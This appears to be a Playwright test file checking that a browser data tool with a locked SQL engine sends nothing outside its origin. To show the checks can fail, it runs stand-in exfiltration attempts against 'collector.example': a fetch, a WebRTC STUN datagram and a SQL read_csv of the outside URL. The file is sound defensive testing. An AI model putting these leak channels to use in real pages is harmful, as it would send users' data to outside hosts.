import { resolve } from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import type { Canary } from './support/canary.ts';
import { watchNetwork } from './support/network-watch.ts';
import { makeOrders } from './support/orders.ts';
import { call, open, startEngine, visit } from './support/site.ts';
import { serveWeakened, withoutLock, withoutPolicy } from './support/static-server.ts';

const dist = resolve(import.meta.dirname, '../../dist');
const outside = 'http://collector.example/leak';

/** Runs `attempt` on a page of `origin` in a context of its own and answers what the network proof says about it, once it says what `until` looks for. */
async function proofOf(
  browser: Browser,
  origin: string,
  canary: Canary,
  until: RegExp,
  attempt: (page: Page) => Promise<unknown>,
): Promise<string[]> {
  const context = await browser.newContext({ baseURL: `${origin}/` });
  try {
    const watch = await watchNetwork(context, origin, canary);
    const page = await context.newPage();
    await attempt(page);
    await expect
      .poll(() => watch.report().join('\n'), { timeout: 5_000 })
      .toMatch(until)
      .catch(() => undefined);
    return watch.report();
  } finally {
    await context.close();
  }
}

const fetchOutside = (url: string) =>
  fetch(url, { mode: 'no-cors' }).then(
    () => 'sent',
    () => 'stopped',
  );

test('a whole visit makes no request after the engine is ready, and none outside the origin ever', async ({ page }) => {
  await visit(page);
  await startEngine(page);
  await open(page, [{ name: 'shop.csv', text: makeOrders(20).csv }]);
  for (const lens of ['stage-curve', 'stage-mix', 'profit-curve', 'whale', 'loyalty-matrix']) await call(page, 'lens', lens);
  await page.getByRole('button', { name: '切换到简体中文' }).click();
  for (const hash of ['#/data', '#/notebook/overview', '#/']) {
    await page.evaluate((next) => void (location.hash = next), hash);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  }
});

test('the page says that its engine is locked, because the engine said so', async ({ page }) => {
  await visit(page);
  await startEngine(page);
  const [row] = await call<{ locked: unknown; outside: unknown }[]>(
    page,
    'sql',
    "select current_setting('lock_configuration') as locked, current_setting('enable_external_access') as outside",
  );
  expect(row).toEqual({ locked: true, outside: false });
});

test.describe('the proof can fail', () => {
  test('with the policy, a script that calls out is stopped before the wire and reported', async ({ browser, baseURL, canary }) => {
    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, /policy violation/, async (page) => {
      await visit(page);
      expect(await page.evaluate(fetchOutside, outside)).toBe('stopped');
    });
    expect(report.join('\n')).toContain('policy violation');
    expect(report.filter((problem) => problem.startsWith('reached the canary'))).toEqual([]);
    canary.forget();
  });

  test('without the policy the same script reaches the canary, and the proof turns red', async ({ browser, canary }) => {
    const server = await serveWeakened(dist, withoutPolicy);
    const report = await proofOf(browser, server.origin, canary, /reached the canary/, async (page) => {
      await visit(page);
      expect(await page.evaluate(fetchOutside, outside)).toBe('sent');
    });
    await server.close();
    expect(report.join('\n')).toContain(`request outside the origin: GET ${outside}`);
    expect(report.join('\n')).toContain('reached the canary: GET /leak');
    canary.forget();
  });

  test('without the policy a datagram reaches the canary, and the proof turns red', async ({ browser, canary }) => {
    const server = await serveWeakened(dist, withoutPolicy);
    const report = await proofOf(browser, server.origin, canary, /canary: udp/, async (page) => {
      await visit(page);
      await page.evaluate(async (port) => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:collector.example:${port}` }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
      }, canary.port);
    });
    await server.close();
    expect(report).toContain('reached the canary: udp');
    canary.forget();
  });

  test('with the lock, SQL that calls out is refused and makes not even an attempt', async ({ page }) => {
    await visit(page);
    await startEngine(page);
    const refused = await page.evaluate((url) => {
      const { perennial } = globalThis as unknown as { perennial: { sql(text: string): Promise<unknown> } };
      return perennial.sql(`select * from read_csv('${url}')`).then(
        () => 'answered',
        (error: { code?: string }) => error.code ?? 'thrown',
      );
    }, outside);
    expect(refused).toMatch(/^(sql|engine)\//);
  });

  test('with the lock opened, either the engine refuses to start or the proof turns red', async ({ browser, canary }) => {
    const server = await serveWeakened(dist, (path, text) => withoutLock(path, withoutPolicy(path, text)));
    let refusedToStart = false;
    const report = await proofOf(browser, server.origin, canary, /collector\.example/, async (page) => {
      await visit(page);
      await startEngine(page).catch(() => (refusedToStart = true));
      await call(page, 'sql', `select * from read_csv('${outside}')`).catch(() => undefined);
    });
    await server.close();
    expect(refusedToStart || report.some((problem) => problem.includes('collector.example'))).toBe(true);
    canary.forget();
  });

  test('a request to our own origin after the engine is ready turns the proof red', async ({ browser, baseURL, canary }) => {
    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, /after the engine was ready/, async (page) => {
      await visit(page);
      await startEngine(page);
      await page.evaluate(() => fetch('./favicon.svg?leak=1').then(() => undefined));
    });
    expect(report.join('\n')).toContain('request after the engine was ready');
    canary.forget();
  });
});
